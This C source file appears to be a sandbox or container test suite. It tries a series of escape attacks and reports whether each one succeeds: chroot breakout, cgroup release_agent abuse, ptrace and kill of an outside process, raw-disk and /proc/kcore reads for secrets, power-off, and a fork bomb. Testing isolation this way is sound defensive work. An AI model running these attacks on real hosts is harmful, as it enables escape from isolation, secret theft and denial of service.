/* One attack for each name: tries, and says "done" or which call failed with what. What it found is printed before. */
#include "properties.h"
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/syscall.h>

#define TRY(call) do { errno = 0; if ((long)(call) == -1) failed(#call); } while (0)
static void failed(const char *call);
static const char *strerrorname(int e) {
    return e == EPERM ? "EPERM" : e == EACCES ? "EACCES" : e == ENOENT ? "ENOENT" : e == ESRCH ? "ESRCH" : e == EROFS ? "EROFS" : e == EAGAIN ? "EAGAIN" :
           e == ENOSYS ? "ENOSYS" : e == EINVAL ? "EINVAL" : e == ENODEV ? "ENODEV" : e == ETXTBSY ? "ETXTBSY" : e == EBADF ? "EBADF" : strerror(e);
}
static void failed(const char *call) {
    const char *name = strstr(call, " = ") ? strstr(call, " = ") + 3 : call;
    printf("%.*s: %s\n", (int)strcspn(name, "("), name, strerrorname(errno));
    exit(1);
}
static void show(const char *path) {
    char text[256];
    int fd;
    TRY(fd = open(path, O_RDONLY));
    ssize_t n;
    TRY(n = read(fd, text, sizeof(text)));
    fwrite(text, 1, n, stdout);
}
static void put(const char *path, const char *text) {
    int fd;
    TRY(fd = open(path, O_WRONLY));
    TRY(write(fd, text, strlen(text)));
}
static int outsider;                        /* the number of the sentinel outside */
static const char *of(const char *what) { static char path[64]; sprintf(path, "/proc/%d/%s", outsider, what); return path; }

static void double_chroot(void) {
    TRY(mkdir("/tmp/further", 0755));
    TRY(chroot("/tmp/further"));
    for (int i = 0; i < 32; i++) TRY(chdir(".."));
    TRY(chroot("."));
    show("/root/secret");
}
static void leaked_descriptor(void) {
    TRY(fchdir(9));
    TRY(chroot("."));
    show("/root/secret");
}
static void overwrite_the_runtime(void) { put("/proc/1/exe", "junk"); }
static void release_agent(void) {
    TRY(mkdir("/tmp/cg", 0755));
    TRY(mount("cgroup", "/tmp/cg", "cgroup", 0, "memory"));
    put("/tmp/cg/release_agent", "/bin/sh");
}
static void kill_outside(void) { TRY(kill(outsider, SIGKILL)); }
static void trace_outside(void) { TRY(ptrace(PTRACE_ATTACH, outsider, 0, 0)); TRY(ptrace(PTRACE_KILL, outsider, 0, 0)); }
static void environment_outside(void) { show(of("environ")); }
static void root_outside(void) { show(of("root/root/secret")); }
static void raw_disk(void) {
    static char block[1 << 16];
    TRY(mknod("/tmp/disk", S_IFBLK | 0600, 0xfe00));
    int fd;
    TRY(fd = open("/tmp/disk", O_RDONLY));
    for (ssize_t n; (n = read(fd, block, sizeof(block))) > 0;)
        for (char *at = block; (at = memchr(at, 'O', block + n - at)); at++)
            if (!strncmp(at, "OUTER SECRET", 12)) printf("%.20s\n", at);
}
static void kernel_memory(void) { show("/proc/kcore"); }
static void host_name(void) { TRY(sethostname("owned", 5)); }
static void host_name_in_proc(void) { put("/proc/sys/kernel/hostname", "owned"); }
static void mount_outside(void) { TRY(mount("x", "/mnt", "tmpfs", 0, NULL)); }
static void power_off(void) { TRY(reboot(RB_POWER_OFF)); }
static void set_user_id(void) {
    char block[8192];
    int from, to, pid;
    TRY(from = open("/proc/self/exe", O_RDONLY));
    TRY(to = open("/tmp/shell", O_CREAT | O_WRONLY, 0755));
    for (ssize_t n; (n = read(from, block, sizeof(block))) > 0;) TRY(write(to, block, n));
    TRY(fchmod(to, 04755));
    close(to);
    if (!(pid = fork())) { TRY(setresuid(1000, 1000, 1000)); TRY(execl("/tmp/shell", "attacks", "-root", NULL)); }
    if (exit_of(pid)) puts("exec: still user 1000"), exit(1);
}
static void fork_bomb(void) {
    for (int i = 0; i < 100; i++) {
        int pid;
        TRY(pid = fork());
        if (!pid) for (;;) pause();
    }
}

static const struct property all[] = {
    T(double_chroot), T(leaked_descriptor), T(overwrite_the_runtime), T(release_agent), T(kill_outside), T(trace_outside), T(environment_outside), T(root_outside),
    T(raw_disk), T(kernel_memory), T(host_name), T(host_name_in_proc), T(mount_outside), T(power_off), T(set_user_id), T(fork_bomb), { 0 }
};

int main(int argc, char **argv) {
    if (argc == 2 && !strcmp(argv[1], "-root")) return geteuid() != 0;
    if (argc == 2 && !strcmp(argv[1], "-sentinel")) {
        int pid = fork();
        if (!pid) { setsid(), close(0), close(1), close(2); for (;;) pause(); }
        return printf("%d\n", pid) < 0;
    }
    outsider = argc > 2 ? atoi(argv[2]) : 0;
    for (const struct property *p = all; argc > 1 && p->name; p++) if (!strcmp(p->name, argv[1])) return p->hold(), puts("done"), 0;
    return 2;
}
